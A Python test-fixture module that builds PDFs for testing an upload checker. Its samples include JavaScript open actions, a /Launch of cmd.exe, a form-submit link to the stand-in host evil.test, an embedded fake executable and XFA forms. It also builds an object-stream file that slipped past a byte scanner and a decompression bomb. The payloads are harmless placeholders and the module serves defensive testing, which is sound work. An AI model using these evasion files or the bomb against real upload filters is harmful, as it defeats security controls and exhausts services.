"""PDF files for upload tests, built with pikepdf (real, openable files) or byte by byte where a
reader-legal trick has to be spelled out (the object-stream bypass of issue 11)."""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

# Where the forbidden content goes: in an object stream (PDF 1.5+, compressed), or as plain
# objects in the file.
IN_OBJECT_STREAM = ObjectStreamMode.generate
PLAIN = ObjectStreamMode.disable


def _saved(pdf: pikepdf.Pdf, mode=IN_OBJECT_STREAM, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=mode, **options)
    return out.getvalue()


def _page(pdf: pikepdf.Pdf, text: bytes = b"KK") -> pikepdf.Page:
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[-1]
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET")
    return page


def clean_pdf(mode=IN_OBJECT_STREAM, **options) -> bytes:
    """A one-page scan-like PDF with nothing active in it."""
    pdf = pikepdf.new()
    _page(pdf)
    return _saved(pdf, mode, **options)


def _with(build, mode=IN_OBJECT_STREAM) -> bytes:
    pdf = pikepdf.new()
    page = _page(pdf)
    build(pdf, page)
    return _saved(pdf, mode)


def _action(pdf, **entries):
    return pdf.make_indirect(Dictionary(Type=Name.Action, **entries))


def _link(pdf, page, action):
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 300, 100]), A=action)
    )
    page.obj.Annots = Array([annotation])
    return annotation


def _open_action(**entries):
    def build(pdf, page):
        pdf.Root.OpenAction = _action(pdf, **entries)

    return build


def _page_action(**entries):
    """An action run when the page is opened (/AA /O), without /S: only the key says what."""

    def build(pdf, page):
        page.obj.AA = Dictionary(O=Dictionary(**entries))

    return build


def _javascript_names_tree(pdf, page):
    script = _action(pdf, S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _embedded_files(pdf, page):
    data = pdf.make_stream(b"MZ\x90\x00 not a scan", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("ktp.exe"), EF=Dictionary(F=data))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("ktp.exe"), spec])))


def _lone_embedded_file_stream(pdf, page):
    # Referenced from nowhere a reader looks, but in the file: refused all the same.
    pdf.Root.Extra = pdf.make_stream(b"payload", Type=Name.EmbeddedFile)


def _file_attachment_annotation(pdf, page):
    spec = Dictionary(Type=Name.Filespec, F=String("data.txt"))
    page.obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([72, 72, 90, 90]),
                    FS=spec,
                )
            )
        ]
    )


def _rich_media(pdf, page):
    page.obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
            )
        ]
    )


def _xfa_form(pdf, page):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _submit_form_link(pdf, page):
    _link(
        pdf,
        page,
        _action(pdf, S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.test/"))),
    )


# The forbidden content, one case per name the check refuses: (builder, what the refusal names).
SCRIPT = "a script (JavaScript)"
OPENS_OTHER = "an action that opens another file or program"
SENDS_DATA = "a form that sends data elsewhere"
ATTACHMENT = "an attached file"
MEDIA = "embedded multimedia"
XFA = "a scripted form (XFA)"
FORBIDDEN = {
    "/JavaScript open action": (
        _open_action(S=Name.JavaScript, JS=String("app.alert(1)")),
        SCRIPT,
    ),
    "/JS key alone, page open action": (_page_action(JS=String("app.alert(1)")), SCRIPT),
    "/JavaScript names tree": (_javascript_names_tree, SCRIPT),
    "/Launch": (_open_action(S=Name.Launch, F=String("cmd.exe")), OPENS_OTHER),
    "/GoToR": (_open_action(S=Name.GoToR, F=String("other.pdf"), D=Array([0])), OPENS_OTHER),
    "/GoToE": (_open_action(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))), OPENS_OTHER),
    "/ImportData": (_open_action(S=Name.ImportData, F=String("data.fdf")), OPENS_OTHER),
    "/SubmitForm link": (_submit_form_link, SENDS_DATA),
    "/EmbeddedFiles names tree": (_embedded_files, ATTACHMENT),
    "/EmbeddedFile stream": (_lone_embedded_file_stream, ATTACHMENT),
    "/FileAttachment annotation": (_file_attachment_annotation, ATTACHMENT),
    "/RichMedia annotation": (_rich_media, MEDIA),
    "/XFA form": (_xfa_form, XFA),
}


def forbidden_pdf(case: str, mode=IN_OBJECT_STREAM) -> bytes:
    return _with(FORBIDDEN[case][0], mode)


def uri_link_pdf(mode=IN_OBJECT_STREAM) -> bytes:
    """What phone scanner apps write: a web link annotation on the page."""

    def build(pdf, page):
        _link(pdf, page, _action(pdf, S=Name.URI, URI=String("https://scanner.example/")))
        pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://scanner.example/"))

    return _with(build, mode)


def encrypted_pdf(*, user: str = "") -> bytes:
    """An encrypted PDF; with user="" it opens without a password (owner restrictions only)."""
    pdf = pikepdf.new()
    _page(pdf)
    return _saved(pdf, encryption=pikepdf.Encryption(owner="pemilik", user=user))


def _png_up_predicted(data: bytes, columns: int) -> bytes:
    """`data` as PNG "Up" predictor rows (/Predictor 12), padded with spaces to whole rows."""
    data += b" " * (-len(data) % columns)
    rows, previous = [], bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        rows.append(b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True)))
        previous = row
    return b"".join(rows)


def object_stream_bypass_pdf(*, packed: bytes | None = None) -> bytes:
    """The file of issue 11 that the byte scanner let through: the catalog's /OpenAction is a
    JavaScript action stored inside an object stream, compressed with a PNG predictor, whose
    stream dictionary is over 4 KB and holds a name ending in "obj" (where the scanner thought
    the dictionary began). A cross-reference stream (PDF 1.5) points into the object stream.
    `packed` replaces the object stream's compressed bytes (to make it undecodable)."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    if packed is None:
        packed = zlib.compress(_png_up_predicted(header + action, columns=5))
    padding = b"x" * 5000
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        5: b"<< /Type /ObjStm /N 1 /First "
        + str(len(header)).encode()
        + b" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >> /Dummyobj true"
        + b" /Padding ("
        + padding
        + b") /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, 7):
        if number == 4:  # in object stream 5, at index 0
            rows.append(b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big"))
    xref = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length "
        + str(len(xref)).encode()
        + b" >>\nstream\n"
        + xref
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n" + str(offsets[6]).encode() + b"\n%%EOF\n"
    return bytes(out)


def inflating_pdf(megabytes: int) -> bytes:
    """The bypass file's shape with an object stream that inflates to `megabytes` of zeros
    (valid PNG-predictor rows), compressed about a thousandfold: a decompression bomb."""
    packer = zlib.compressobj(9)
    head = _png_up_predicted(b"4 0 << /Type /Annot >>", columns=5)
    rows = b"\x00" * (6 << 20)  # whole 6-byte rows: predictor byte 0 and 5 zero bytes
    packed = packer.compress(head)
    for _ in range(megabytes // 6):
        packed += packer.compress(rows)
    return object_stream_bypass_pdf(packed=packed + packer.flush())
